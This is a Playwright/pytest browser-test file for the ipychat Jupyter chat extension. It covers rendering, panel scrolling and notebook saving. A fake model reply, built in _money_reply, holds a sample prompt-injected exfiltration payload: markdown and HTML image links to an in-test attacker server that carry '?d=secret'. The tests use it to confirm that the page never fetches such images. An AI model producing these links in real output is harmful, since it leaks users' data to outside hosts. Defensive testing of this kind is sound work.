"""ipychat as people see it: a real JupyterLab (and Notebook 7), a real kernel, headless Chromium.

JupyterLab runs on 127.0.0.1 with temporary notebooks; its kernel (a separate process)
reaches the in-test FakeOpenAIServer through OPENAI_BASE_URL. Playwright drives Debian's
Chromium, never a downloaded browser. The tests read what the browser *renders* (nbval only
compares the text a kernel sent): dollar amounts as written and never typeset as LaTeX, the
panel scrolled to its newest reply, a saved notebook that reopens without widget errors, and
no request leaving the page's origin (a reply's remote images are links, not fetched).

Screenshots go to IPYCHAT_ARTIFACTS (default: the test's temporary directory). With
IPYCHAT_SCREENSHOTS=docs the README's two screenshots (docs/jupyterlab.png, docs/panel.png)
are regenerated; normal runs never write into the repository.

Everything is stopped in `finally` blocks, also when an assertion fails.
"""

from __future__ import annotations

import http.server
import importlib.util
import json
import os
import re
import shutil
import signal
import socket
import subprocess
import sys
import threading
import time
import urllib.error
import urllib.request
from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path
from typing import Any

import pytest

from ipychat.testing import FakeOpenAIServer

pytestmark = pytest.mark.browser

ROOT = Path(__file__).resolve().parents[2]
CHROMIUM = "/usr/bin/chromium"
CHROMIUM_ARGS = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--no-first-run",
]
TOKEN = "ipychat-browser-test"
PANEL_PROMPT = "Tell me about the panel"
MONEY_PROMPT = "How did revenue change this quarter?"
MONEY_TEXT = "Revenue grew from $1,200 in January to $1,850 in March"
MATH_ELEMENTS = "mjx-container, .MathJax, .katex"
AMOUNT = re.compile(r"\$\d[\d,]*(?:\.\d+)?(?:e-\d+)?")
INLINE_MATH = re.compile(r"\$[^$\s][^$]*?[^\s$]\$(?!\d)")

# The server starts as `sys.executable -m jupyterlab` (works in a venv that was never
# activated): what is needed is the module, not a `jupyter-lab` script on PATH. Under
# IPYCHAT_REQUIRE_ALL=1 (.ci/run) this module-level skip is a failure.
if not Path(CHROMIUM).exists() or importlib.util.find_spec("jupyterlab") is None:
    pytest.skip(
        "needs Debian's chromium (apt-get install chromium) and jupyterlab (the test extra)",
        allow_module_level=True,
    )
sync_api = pytest.importorskip("playwright.sync_api")


def _free_port() -> int:
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return int(s.getsockname()[1])


# jupyter_client picks a kernel's TCP ports by binding to port 0 and releasing them; on a
# busy machine another process can take one before the kernel binds it, and the server logs
# ZMQError "Address already in use" while it starts the kernel again (jupyter_client's
# known port race; the kernel then runs). That traceback is the platform's, not ours.
_PORT_RACE = "zmq.error.ZMQError: Address already in use"


def _server_tracebacks(log: str) -> list[str]:
    """The tracebacks in the server's log, but the kernel-port race above."""
    blocks = log.split("Traceback (most recent call last):")[1:]
    return [b for b in blocks if _PORT_RACE not in b.split("\n[", 1)[0]]


def _wait(condition: Callable[[], Any], what: str, timeout: float = 20.0) -> Any:
    deadline = time.monotonic() + timeout
    while True:
        value = condition()
        if value:
            return value
        if time.monotonic() > deadline:
            raise AssertionError(f"timed out after {timeout} s waiting for {what}")
        time.sleep(0.05)


def _notebook(*sources: str) -> dict[str, Any]:
    def cell(index: int, source: str) -> dict[str, Any]:
        return {
            "cell_type": "code",
            "execution_count": None,
            "id": f"cell-{index}",
            "metadata": {},
            "outputs": [],
            "source": source,
        }

    return {
        "cells": [cell(i, s) for i, s in enumerate(sources)],
        "metadata": {
            "kernelspec": {"display_name": "Python 3", "language": "python", "name": "python3"},
            "language_info": {"name": "python"},
        },
        "nbformat": 4,
        "nbformat_minor": 5,
    }


def _isolated_env(home: Path, fake: FakeOpenAIServer) -> dict[str, str]:
    env = {k: v for k, v in os.environ.items() if not k.startswith(("OPENAI_", "IPYCHAT_"))}
    dirs = {
        "HOME": home,
        "JUPYTER_CONFIG_DIR": home / "config",
        "JUPYTER_DATA_DIR": home / "data",
        "JUPYTER_RUNTIME_DIR": home / "runtime",
        "IPYTHONDIR": home / "ipython",
        "JUPYTERLAB_SETTINGS_DIR": home / "settings",
        "JUPYTERLAB_WORKSPACES_DIR": home / "workspaces",
        "IPYCHAT_CACHE_DIR": home / "cache",
    }
    for path in dirs.values():
        path.mkdir(parents=True, exist_ok=True)
    env.update({k: str(v) for k, v in dirs.items()})
    # The kernel inherits this environment: it finds the fake server and this checkout.
    env["OPENAI_BASE_URL"] = fake.base_url
    env["PYTHONPATH"] = os.pathsep.join(filter(None, [str(ROOT), env.get("PYTHONPATH")]))
    env["JUPYTER_PLATFORM_DIRS"] = "1"
    settings = home / "settings"
    for name, value in (
        (
            "@jupyterlab/apputils-extension/notification.jupyterlab-settings",
            {"fetchNews": "false", "checkForUpdates": False, "doNotDisturbMode": True},
        ),
        ("@jupyterlab/extensionmanager-extension/plugin.jupyterlab-settings", {"enabled": False}),
        # Every cell in the DOM, so the tests can read outputs scrolled out of view.
        ("@jupyterlab/notebook-extension/tracker.jupyterlab-settings", {"windowingMode": "none"}),
    ):
        (settings / name).parent.mkdir(parents=True, exist_ok=True)
        (settings / name).write_text(json.dumps(value))
    return env


class Lab:
    """A JupyterLab (or, with app="notebook", a Notebook 7) server in its own process group.

    Both are jupyter_server applications started the same way; Notebook 7 is built from
    JupyterLab's components (the same notebook widget, output areas and settings), so the
    same settings directory and DOM classes apply; it opens a notebook at /notebooks/NAME.
    """

    def __init__(
        self, root: Path, home: Path, env: dict[str, str], app: str = "jupyterlab"
    ) -> None:
        self.app = app
        self.port = _free_port()
        self.url = f"http://127.0.0.1:{self.port}"
        self.log_path = home / f"{app}.log"
        command = [
            sys.executable,
            "-m",
            app,
            "--no-browser",
            "--ServerApp.ip=127.0.0.1",
            f"--ServerApp.port={self.port}",
            "--ServerApp.port_retries=0",
            f"--ServerApp.root_dir={root}",
            f"--IdentityProvider.token={TOKEN}",
            # JupyterLab's server extension runs beside Notebook 7 too, when both are installed.
            "--LabApp.news_url=None",
            "--LabApp.check_for_updates_class=jupyterlab.NeverCheckForUpdate",
            "--LabApp.extension_manager=readonly",
        ]
        if hasattr(os, "geteuid") and os.geteuid() == 0:
            command.append("--allow-root")
        self._log = self.log_path.open("wb")
        self.process = subprocess.Popen(
            command, env=env, stdout=self._log, stderr=subprocess.STDOUT, start_new_session=True
        )

    def api(self, path: str, method: str = "GET") -> Any:
        request = urllib.request.Request(
            f"{self.url}{path}", method=method, headers={"Authorization": f"token {TOKEN}"}
        )
        with urllib.request.urlopen(request, timeout=5) as response:
            body = response.read()
        return json.loads(body) if body else None

    def ready(self) -> bool:
        if self.process.poll() is not None:
            raise AssertionError(f"{self.app} exited:\n{self.log()}")
        try:
            self.api("/api/status")
            return True
        except OSError:
            return False

    def kernel_idle(self) -> bool:
        sessions = self.api("/api/sessions")
        return bool(sessions) and all(s["kernel"]["execution_state"] == "idle" for s in sessions)

    def saved(self, name: str) -> dict[str, Any]:
        # jupyter_server's "atomic" save (fileio.atomic_writing) keeps a backup copy but
        # writes the notebook in place, so a read that meets a save finds half a file and is
        # answered 400 "Unreadable Notebook": such a read is tried again, a bounded number
        # of times; any other error, or a notebook still unreadable after that, fails.
        for attempt in range(20):
            try:
                return self.api(f"/api/contents/{name}?content=1")["content"]  # type: ignore[no-any-return]
            except urllib.error.HTTPError as error:
                if error.code != 400 or attempt == 19:
                    raise
                time.sleep(0.05)
        raise AssertionError("unreachable")

    def close_sessions(self) -> None:
        """Shut the kernels down, as closing the notebook and its kernel does."""
        for session in self.api("/api/sessions"):
            self.api(f"/api/sessions/{session['id']}", method="DELETE")

    def log(self) -> str:
        return self.log_path.read_text(errors="replace")

    def stop(self) -> None:
        try:
            if self.process.poll() is None:
                self.api("/api/shutdown", method="POST")  # also stops the kernels
                self.process.wait(10)
        except Exception:
            pass
        for sig in (signal.SIGTERM, signal.SIGKILL):
            if self.process.poll() is not None:
                break
            try:
                os.killpg(self.process.pid, sig)
                self.process.wait(5)
            except (ProcessLookupError, subprocess.TimeoutExpired):
                pass
        self._log.close()


class Attacker:
    """A server at another origin that records every request: a reply's images point here,
    and a page that shows the reply safely never calls it."""

    def __init__(self) -> None:
        hits = self.hits = []  # type: list[str]

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                hits.append(self.path)
                self.send_response(404)
                self.end_headers()

            def log_message(self, *args: Any) -> None:
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        self._thread = threading.Thread(target=self.server.serve_forever, daemon=True)
        self._thread.start()

    def stop(self) -> None:
        self.server.shutdown()
        self.server.server_close()
        self._thread.join(5)


def _money_reply(attacker: str) -> str:
    """Currency, real LaTeX and a prompt-injected exfiltration attempt in three forms."""
    return (
        f"{MONEY_TEXT}, a rise of $650; the growth rate $r$ solves $1200(1+r)^2 = 1850$.\n\n"
        f"![chart]({attacker}/markdown.png?d=secret) "
        f'<img src="{attacker}/html.png?d=secret"> ![logo][1]\n\n'
        f"[1]: {attacker}/reference.png?d=secret"
    )


def _replies(attacker: str) -> Callable[[dict[str, Any]], str]:
    def reply(body: dict[str, Any]) -> str:
        prompt = str(body["messages"][-1]["content"])
        if prompt == MONEY_PROMPT:
            return _money_reply(attacker)
        if prompt.startswith("Is this review"):
            return "positive" if "lovely" in prompt else "negative"
        if prompt == PANEL_PROMPT:  # long enough to be seen while it streams (about 1.5 s)
            return f"Echo: {prompt}. " + " ".join(f"word{i}" for i in range(40))
        if prompt.startswith("Message"):  # tall replies, so the panel has to scroll
            return f"Echo: {prompt}\n\n" + "\n\n".join(f"Point {i}." for i in range(1, 5))
        return f"Echo: {prompt}"

    return reply


@contextmanager
def _lab(
    tmp_path: Path, notebooks: dict[str, dict[str, Any]], app: str = "jupyterlab", **server: Any
) -> Iterator[tuple[Lab, FakeOpenAIServer, Attacker]]:
    attacker = Attacker()
    try:
        options = {"models": ("gpt-4o-mini", "fake-model"), **server}
        with FakeOpenAIServer(reply=_replies(attacker.url), **options) as fake:
            root, home = tmp_path / "root", tmp_path / "home"
            root.mkdir()
            for name, notebook in notebooks.items():
                (root / name).write_text(json.dumps(notebook))
            lab = Lab(root, home, _isolated_env(home, fake), app)
            try:
                _wait(lab.ready, f"{app} to answer /api/status", timeout=30)
                yield lab, fake, attacker
            finally:
                lab.stop()
    finally:
        attacker.stop()


@contextmanager
def _browser(lab: Lab) -> Iterator[tuple[Any, list[str]]]:
    """A page, and every URL it requests (websockets included)."""
    requests: list[str] = []
    with sync_api.sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        try:
            page = browser.new_page(viewport={"width": 1280, "height": 1000})
            page.on("request", lambda r: requests.append(r.url))
            page.on("websocket", lambda ws: requests.append(ws.url))
            yield page, requests
        finally:
            browser.close()
    origin = (f"http://127.0.0.1:{lab.port}/", f"ws://127.0.0.1:{lab.port}/")
    strays = [u for u in requests if not u.startswith((*origin, "data:", "blob:"))]
    assert not strays, f"the browser went elsewhere: {strays[:5]}"


@pytest.fixture
def shots(tmp_path: Path) -> Callable[[str], str]:
    """Where a screenshot goes: IPYCHAT_ARTIFACTS (default: this test's temporary directory);
    the README's two also to IPYCHAT_SCREENSHOTS (relative to the repository) when set."""
    artifacts = Path(os.environ.get("IPYCHAT_ARTIFACTS") or tmp_path / "screenshots")
    artifacts.mkdir(parents=True, exist_ok=True)

    def path(name: str) -> str:
        return str(artifacts / name)

    return path


def _publish(shot: str, name: str) -> None:
    target = os.environ.get("IPYCHAT_SCREENSHOTS")
    if target:
        shutil.copyfile(shot, ROOT / target / name)


def _open(page: Any, lab: Lab, name: str) -> Any:
    path = "notebooks" if lab.app == "notebook" else "lab/tree"
    page.goto(f"{lab.url}/{path}/{name}?token={TOKEN}")
    cells = page.locator(".jp-NotebookPanel .jp-Notebook .jp-Cell")
    cells.first.wait_for(timeout=30_000)
    if lab.app == "jupyterlab":  # Notebook 7 shows the kernel's state elsewhere
        page.locator(
            '.jp-NotebookPanel-toolbar .jp-Notebook-ExecutionIndicator[data-status="idle"]'
        ).wait_for(timeout=30_000)
    _wait(lab.kernel_idle, "the kernel to start", timeout=30)
    return cells


def _run(cells: Any, page: Any, index: int, timeout: float = 30) -> None:
    """Run a cell and wait for its execution count (`[3]:`, not `[*]:`)."""
    cell = cells.nth(index)
    cell.locator(".jp-InputArea-editor").click()
    page.keyboard.press("Shift+Enter")
    prompt = cell.locator(".jp-InputArea-prompt")
    _wait(lambda: re.fullmatch(r"\[\d+\]:", prompt.inner_text().strip()), f"cell {index}", timeout)


def _output(cells: Any, index: int) -> Any:
    return cells.nth(index).locator(".jp-OutputArea")


def _plain(notebook: dict[str, Any], index: int) -> str:
    """The text/plain the kernel sent for a cell: what ipychat wrote, before rendering."""
    texts = []
    for output in notebook["cells"][index]["outputs"]:
        plain = output.get("data", {}).get("text/plain", output.get("text", ""))
        texts.append("".join(plain) if isinstance(plain, list) else plain)
    return "\n".join(texts)


def _amounts_as_written(rendered: str, written: str) -> None:
    """Every dollar amount written appears, in order, in what the browser shows (formulas
    like `$1200(1+r)^2 = 1850$`, Pandoc-style inline math, are not amounts)."""
    expected = AMOUNT.findall(INLINE_MATH.sub("", written))
    assert expected, f"no amounts in {written!r}"
    assert AMOUNT.findall(rendered) == expected, (rendered, written)


# ----- a notebook's first hour ---------------------------------------------------------------------

TOUR = _notebook(
    "%load_ext ipychat",
    "%chat budget 0.01",
    f"%%chat\n{MONEY_PROMPT}",
    "import numpy as np\nimport pandas as pd\n\n"
    "reviews = pd.DataFrame({'review': ['Lovely staff, lovely pasta.', 'Cold soup.', "
    "'The lovely terrace.', 'Rude waiter.', 'A lovely evening.']})\n"
    "big = pd.DataFrame(np.random.default_rng(0).normal(size=(1000, 8)))",
    "%%chatmap reviews -o sentiment --max-tokens 5\nIs this review positive or negative? {review}",
    "%chat usage",
    "%chat budget",
    "%chat history",
    "%%chat --dry-run\nSummarise {big}",
)


def test_a_first_hour_in_jupyterlab(tmp_path: Path, shots: Callable[[str], str]) -> None:
    with _lab(tmp_path, {"tour.ipynb": TOUR}) as (lab, fake, attacker), _browser(lab) as (page, _):
        try:
            _drive_tour(page, lab, shots)
        finally:
            page.screenshot(path=shots("tour.png"))

    assert attacker.hits == [], f"the page fetched a reply's images: {attacker.hits}"
    assert fake.chat_requests[0].body["messages"][-1]["content"] == MONEY_PROMPT
    assert not _server_tracebacks(lab.log()), lab.log()


def _drive_tour(page: Any, lab: Lab, shots: Callable[[str], str]) -> None:
    cells = _open(page, lab, "tour.ipynb")
    for index in range(len(TOUR["cells"])):
        _run(cells, page, index)
    reply = _output(cells, 2)
    # The reply's real LaTeX is typeset (two formulas) and nothing else is.
    _wait(lambda: reply.locator(MATH_ELEMENTS).count() == 2, "the reply's two formulas")
    page.keyboard.press("Control+s")
    _wait(lambda: lab.saved("tour.ipynb")["cells"][4]["outputs"], "the saved notebook")
    saved = lab.saved("tour.ipynb")

    # The reply: amounts as written, formulas kept, images shown as links to their host.
    shown = reply.inner_text()
    assert MONEY_TEXT in shown and "a rise of $650" in shown
    _amounts_as_written(shown, _plain(saved, 2))
    assert reply.locator("img").count() == 0
    links = reply.locator("a").all_inner_texts()
    assert "image: chart (127.0.0.1)" in links and "image: logo (127.0.0.1)" in links
    # ipychat's own lines: the budget, the map's plan/progress/summary, usage, history.
    for index in (1, 4, 5, 6):
        text = _output(cells, index).inner_text()
        _amounts_as_written(text, _plain(saved, index))
        assert _output(cells, index).locator(MATH_ELEMENTS).count() == 0, index
    assert "spent $0.00 of $0.01" in _output(cells, 1).inner_text()
    assert re.search(r"spent \$[\d.e-]+ of \$0\.01", _output(cells, 6).inner_text())
    usage = _output(cells, 5).locator("td").all_inner_texts()
    assert sum(1 for td in usage if td.startswith("$")) >= 4  # cost and saved, two rows
    summary = _output(cells, 4).inner_text()
    assert "map finished: 5/5" in summary and "Done: 5 rows in" in summary
    # History: each turn on its own, the reply's amounts as written, its two formulas.
    history = _output(cells, 7)
    assert MONEY_TEXT in history.inner_text()
    assert history.locator(MATH_ELEMENTS).count() == 2
    assert [s.strip() for s in history.locator("strong").all_inner_texts()] == [
        "user:",
        "assistant:",
    ]
    # --dry-run: what the 1,000 × 8 frame became.
    assert "{big}: 1,000 × 8 DataFrame as a summary" in _output(cells, 8).inner_text()
    for index in (1, 2, 4, 5, 6, 7):  # what each output looks like, to look at
        cells.nth(index).screenshot(path=shots(f"tour-cell-{index}.png"))

    # Saved and reopened without its kernel: the map shows its static summary.
    map_outputs = saved["cells"][4]["outputs"]
    widget = "application/vnd.jupyter.widget-view+json"
    assert not any(widget in o.get("data", {}) for o in map_outputs)
    lab.close_sessions()
    cells = _open(page, lab, "tour.ipynb")
    _wait(lambda: "map finished: 5/5" in _output(cells, 4).inner_text(), "the static summary")
    assert "Error displaying widget" not in page.locator(".jp-Notebook").inner_text()
    _output(cells, 4).scroll_into_view_if_needed()
    page.screenshot(path=shots("reopened.png"))


# ----- the panel ------------------------------------------------------------------------------------

PANEL = _notebook("%load_ext ipychat", "%chat panel", f"%%chat\n{MONEY_PROMPT}")
SCROLL_GEOMETRY = """(needle) => {
    const scroller = document.querySelector('.ipychat-scroller');
    const view = scroller.getBoundingClientRect();
    // The innermost element showing the needle (a paragraph, a footer), the last one.
    const holders = [...scroller.querySelectorAll('*')].filter((e) =>
        e.textContent.includes(needle)
        && ![...e.children].some((c) => c.textContent.includes(needle)));
    const block = holders[holders.length - 1].getBoundingClientRect();
    return {
        above: block.top - view.top,  // >= 0: the block's top is in view
        below: view.bottom - block.bottom,  // >= 0: its bottom too
        fromTop: scroller.scrollHeight - scroller.clientHeight + scroller.scrollTop,
        scrolls: scroller.scrollHeight > scroller.clientHeight + 50,
    };
}"""


def test_panel_in_jupyterlab(tmp_path: Path, shots: Callable[[str], str]) -> None:
    with (
        _lab(tmp_path, {"panel.ipynb": PANEL}, tokens_per_second=30) as (lab, fake, attacker),
        _browser(lab) as (page, _),
    ):
        try:
            _drive_panel(page, lab, fake, shots)
        finally:
            page.screenshot(path=shots("notebook.png"))

    assert attacker.hits == [], f"the page fetched a reply's images: {attacker.hits}"
    assert not _server_tracebacks(lab.log()), lab.log()


def _drive_panel(page: Any, lab: Lab, fake: FakeOpenAIServer, shots: Callable[[str], str]) -> None:
    cells = _open(page, lab, "panel.ipynb")
    _run(cells, page, 0)
    _run(cells, page, 1)
    panel = page.locator(".ipychat-panel")
    panel.wait_for(timeout=20_000)

    # The estimate follows the prompt as it is typed.
    estimate = panel.locator(".ipychat-estimate")
    prompt = panel.locator(".ipychat-prompt textarea")
    prompt.press_sequentially("Tell me", delay=20)
    first = _wait(lambda: "tokens" in estimate.inner_text() and estimate.inner_text(), "estimate")
    prompt.press_sequentially(" about the panel", delay=20)
    _wait(lambda: estimate.inner_text() not in ("", first), "the estimate to change")
    assert prompt.input_value() == PANEL_PROMPT

    # Send: the reply streams in (seen half-written) while the kernel stays idle.
    panel.locator(".ipychat-send").click()
    transcript = panel.locator(".ipychat-transcript")
    _wait(lambda: "streaming" in transcript.inner_text(), "the reply to start streaming")
    assert lab.kernel_idle(), "sending from the panel must not keep the kernel busy"
    _wait(lambda: f"Echo: {PANEL_PROMPT}" in transcript.inner_text(), "the panel's reply")
    _wait(lambda: "thread main (1 turn)" in transcript.inner_text(), "the reply's footer")
    assert "spent $" in panel.locator(".ipychat-spend").inner_text()

    def send(text: str, turns: int) -> None:
        prompt.fill(text)
        panel.locator(".ipychat-send").click()
        _wait(lambda: f"thread main ({turns} turns)" in transcript.inner_text(), text)

    def geometry(needle: str) -> dict[str, Any]:
        return page.evaluate(SCROLL_GEOMETRY, needle)  # type: ignore[no-any-return]

    # Several sends: the newest reply and its footer are in view, though the thread is taller.
    for turn in range(2, 6):
        send(f"Message {turn}", turn)
    place = _wait(lambda: (g := geometry("thread main (5 turns)"))["below"] >= 0 and g, "pinned")
    assert place["scrolls"] and place["above"] >= 0, place
    assert geometry("Echo: Message 5")["above"] >= -1  # the reply itself, not only its footer

    # Scrolled up to read: a new reply does not pull the view away.
    page.evaluate(
        "() => { const s = document.querySelector('.ipychat-scroller'); s.scrollTop = -s.scrollHeight; }"
    )
    before = geometry("Echo: Message 2")
    send("Message 6", 6)
    after = geometry("Echo: Message 2")
    assert abs(after["fromTop"] - before["fromTop"]) <= 2, (before, after)
    assert geometry("thread main (6 turns)")["below"] < 0  # the new reply waits below

    # Back at the end, a %%chat cell's reply shows up in the panel too, amounts as written.
    page.evaluate("() => { document.querySelector('.ipychat-scroller').scrollTop = 0; }")
    _run(cells, page, 2)
    _wait(
        lambda: "thread main (7 turns)" in transcript.inner_text(), "the cell's reply in the panel"
    )
    _wait(lambda: geometry("thread main (7 turns)")["below"] >= 0, "the cell's reply in view")
    for place_shown in (transcript, _output(cells, 2)):
        shown = place_shown.inner_text()
        assert MONEY_TEXT in shown and "a rise of $650" in shown
        assert "image: chart (127.0.0.1)" in shown
        assert place_shown.locator("img").count() == 0
    _wait(lambda: transcript.locator(MATH_ELEMENTS).count() == 2, "the two formulas, typeset")
    assert [r.body["messages"][-1]["content"] for r in fake.chat_requests] == [
        PANEL_PROMPT,
        *(f"Message {turn}" for turn in range(2, 7)),
        MONEY_PROMPT,
    ]
    # The %%chat cell continued the thread the panel wrote to.
    assert len(fake.chat_requests[-1].body["messages"]) == 13
    assert not panel.locator(".ipychat-error").inner_text().strip()

    # A new draft is estimated with the turns it would carry along.
    prompt.press_sequentially("Now compare the two quarters in one line", delay=5)
    _wait(lambda: "with history" in estimate.inner_text(), "the estimate with history")
    assert estimate.inner_text().count("$") == 2, "dollar amounts must not be typeset as math"
    assert panel.locator(f".ipychat-spend :is({MATH_ELEMENTS})").count() == 0

    page.locator(".jp-NotebookPanel .jp-WindowedPanel-outer").evaluate("e => { e.scrollTop = 0; }")
    page.screenshot(path=shots("jupyterlab.png"))
    _publish(shots("jupyterlab.png"), "jupyterlab.png")
    panel.scroll_into_view_if_needed()
    panel.screenshot(path=shots("panel.png"))
    _publish(shots("panel.png"), "panel.png")


# ----- the panel in the sidebar ----------------------------------------------------------------------

SIDE = _notebook(
    "%load_ext ipychat",
    "%chat panel --side",
    "\n".join(f"print('line {i}')" for i in range(60)),  # a tall cell to scroll past
)


def test_panel_docked_in_the_sidebar(tmp_path: Path, shots: Callable[[str], str]) -> None:
    """`%chat panel --side`: the panel in JupyterLab's right-hand area, beside the notebook
    however far it scrolls."""
    with (
        _lab(tmp_path, {"side.ipynb": SIDE}, tokens_per_second=30) as (lab, fake, attacker),
        _browser(lab) as (page, _),
    ):
        try:
            _drive_side_panel(page, lab, fake)
        finally:
            page.screenshot(path=shots("sidebar.png"))

    assert attacker.hits == [], f"the page fetched a reply's images: {attacker.hits}"
    assert not _server_tracebacks(lab.log()), lab.log()


def _drive_side_panel(page: Any, lab: Lab, fake: FakeOpenAIServer) -> None:
    cells = _open(page, lab, "side.ipynb")
    for index in range(len(SIDE["cells"])):
        _run(cells, page, index)
    # Docked: in JupyterLab's right-hand area, not in the cell's output, which says where it is.
    panel = page.locator("#jp-right-stack .ipychat-panel")
    panel.wait_for(timeout=20_000)
    assert page.locator(".ipychat-panel").count() == 1
    assert _output(cells, 1).inner_text().strip() == "The chat panel is in the right-hand sidebar."
    notebook_box = page.locator(".jp-NotebookPanel").bounding_box()
    panel_box = panel.bounding_box()
    assert panel_box["x"] >= notebook_box["x"] + notebook_box["width"] - 1, (
        panel_box,
        notebook_box,
    )

    # Every control in view, though the sidebar is narrow (the rows wrap).
    for name in ("send", "stop", "prompt", "spend"):
        _inside(panel.locator(f".ipychat-{name}"), panel)
    _inside(panel.locator(".widget-dropdown"), panel)  # the thread picker

    # The notebook scrolled to its end (the panel's cell far out of view): the panel stays.
    cells.nth(2).locator(".jp-OutputArea").scroll_into_view_if_needed()
    _wait(lambda: _out_of_view(page, cells.nth(1)), "the %chat panel cell to scroll away")
    assert panel.is_visible()

    prompt = panel.locator(".ipychat-prompt textarea")
    prompt.press_sequentially(PANEL_PROMPT, delay=10)
    panel.locator(".ipychat-send").click()
    transcript = panel.locator(".ipychat-transcript")
    _wait(lambda: "thread main (1 turn)" in transcript.inner_text(), "the reply in the sidebar")
    assert f"Echo: {PANEL_PROMPT}. word0" in transcript.inner_text()
    assert not panel.locator(".ipychat-error").inner_text().strip()
    assert [r.body["messages"][-1]["content"] for r in fake.chat_requests] == [PANEL_PROMPT]


def _out_of_view(page: Any, element: Any) -> bool:
    """True when `element` is scrolled out of the notebook's view."""
    box, view = element.bounding_box(), page.locator(".jp-NotebookPanel").bounding_box()
    return (
        box is None or box["y"] + box["height"] < view["y"] or box["y"] > view["y"] + view["height"]
    )


def _inside(element: Any, container: Any) -> None:
    """`element` is shown whole within `container` (not cut off at its right edge)."""
    box, outer = element.bounding_box(), container.bounding_box()
    assert box is not None and outer is not None
    assert box["width"] > 0 and box["x"] >= outer["x"] - 1, (box, outer)
    assert box["x"] + box["width"] <= outer["x"] + outer["width"] + 1, (box, outer)


# ----- Notebook 7 -----------------------------------------------------------------------------------

NOTEBOOK_7 = _notebook("%load_ext ipychat", "%chat panel")


@pytest.mark.skipif(
    importlib.util.find_spec("notebook") is None, reason="needs notebook>=7 (the test extra)"
)
def test_panel_in_notebook_7(tmp_path: Path, shots: Callable[[str], str]) -> None:
    """The classic notebook's successor: load, %chat panel, type, send, see the reply."""
    notebooks = {"panel.ipynb": NOTEBOOK_7}
    with (
        _lab(tmp_path, notebooks, app="notebook", tokens_per_second=30) as (lab, fake, attacker),
        _browser(lab) as (page, _),
    ):
        try:
            _drive_panel_in_notebook_7(page, lab, fake)
        finally:
            page.screenshot(path=shots("notebook7.png"))

    assert attacker.hits == [], f"the page fetched a reply's images: {attacker.hits}"
    assert not _server_tracebacks(lab.log()), lab.log()


def _drive_panel_in_notebook_7(page: Any, lab: Lab, fake: FakeOpenAIServer) -> None:
    cells = _open(page, lab, "panel.ipynb")
    # Notebook 7's own page (its page config names the application), not JupyterLab's.
    config = "() => JSON.parse(document.getElementById('jupyter-config-data').textContent)"
    assert page.evaluate(config)["appName"] == "Jupyter Notebook"
    assert page.evaluate(config)["appVersion"].startswith("7.")
    _run(cells, page, 0)
    _run(cells, page, 1)
    panel = page.locator(".ipychat-panel")
    panel.wait_for(timeout=20_000)
    assert "Error displaying widget" not in page.locator(".jp-Notebook").inner_text()

    prompt = panel.locator(".ipychat-prompt textarea")
    prompt.press_sequentially(PANEL_PROMPT, delay=10)
    estimate = panel.locator(".ipychat-estimate")
    _wait(lambda: "tokens" in estimate.inner_text(), "the estimate of the typed prompt")
    panel.locator(".ipychat-send").click()
    transcript = panel.locator(".ipychat-transcript")
    _wait(lambda: "streaming" in transcript.inner_text(), "the reply to start streaming")
    _wait(lambda: "thread main (1 turn)" in transcript.inner_text(), "the reply's footer")
    shown = transcript.inner_text()
    assert f"Echo: {PANEL_PROMPT}. word0 word1" in shown and "word39" in shown
    assert "spent $" in panel.locator(".ipychat-spend").inner_text()
    assert not panel.locator(".ipychat-error").inner_text().strip()
    assert lab.kernel_idle()
    assert [r.body["messages"][-1]["content"] for r in fake.chat_requests] == [PANEL_PROMPT]
    panel.scroll_into_view_if_needed()


# ----- a %%chat cell run again, and its result (issue 18) ---------------------------------------

RERUN = _notebook(
    "%load_ext ipychat",
    f"%%chat --no-cache\n{PANEL_PROMPT}",
    "import ipychat; t = ipychat.get_session().threads['main']; print(t.turns, t.cells)",
    "%%chat -m gpt-4o-mini,fake-model\nCompare these two",
)


def test_a_chat_cell_run_three_times_in_jupyterlab(
    tmp_path: Path, shots: Callable[[str], str]
) -> None:
    """JupyterLab sends the cell's id with each run: three runs leave one turn; the reply
    streams, then shows once, as the cell's result (Out prompt), saved with its metadata."""
    notebooks = {"rerun.ipynb": RERUN}
    with (
        _lab(tmp_path, notebooks, tokens_per_second=30) as (lab, fake, _attacker),
        _browser(lab) as (page, _),
    ):
        try:
            _drive_rerun(page, lab, fake, shots)
        finally:
            page.screenshot(path=shots("rerun.png"))
    assert not _server_tracebacks(lab.log()), lab.log()


def _drive_rerun(page: Any, lab: Lab, fake: FakeOpenAIServer, shots: Callable[[str], str]) -> None:
    cells = _open(page, lab, "rerun.ipynb")
    _run(cells, page, 0)
    output, cell = _output(cells, 1), cells.nth(1)
    prompt = cell.locator(".jp-InputArea-prompt")
    for run in range(3):
        cell.locator(".jp-InputArea-editor").click()
        page.keyboard.press("Shift+Enter")
        _wait(lambda: "streaming" in output.inner_text(), f"run {run + 1} to stream live")
        _wait(lambda: re.fullmatch(r"\[\d+\]:", prompt.inner_text().strip()), f"run {run + 1}")
    assert len(fake.chat_requests) == 3
    children = output.locator(".jp-OutputArea-child")
    assert children.count() == 1, output.inner_text()  # the live display gave way
    shown = output.inner_text()
    assert f"Echo: {PANEL_PROMPT}. word0" in shown and "word39" in shown
    assert "replaced turn 1" in shown and "streaming" not in shown
    out_prompt = output.locator(".jp-OutputPrompt").inner_text().strip()
    assert re.fullmatch(r"\[\d+\]:", out_prompt), out_prompt  # an execute_result: Out[n]
    cells.nth(1).screenshot(path=shots("rerun-cell.png"))
    _run(cells, page, 2)
    assert _output(cells, 2).inner_text().strip() == "1 ['cell-1']"
    page.keyboard.press("Control+s")
    _wait(lambda: lab.saved("rerun.ipynb")["cells"][2]["outputs"], "the saved notebook")
    outputs = lab.saved("rerun.ipynb")["cells"][1]["outputs"]
    assert [o["output_type"] for o in outputs] == ["execute_result"]
    meta = outputs[0]["metadata"]["ipychat"]
    assert meta["cell"] == "cell-1" and meta["turn"] == 1 and meta["thread"] == "main"
    # -m A,B: the two replies side by side, each with its figures.
    _run(cells, page, 3)
    compared = _output(cells, 3)
    columns = compared.locator("td")
    assert columns.count() == 2, compared.inner_text()
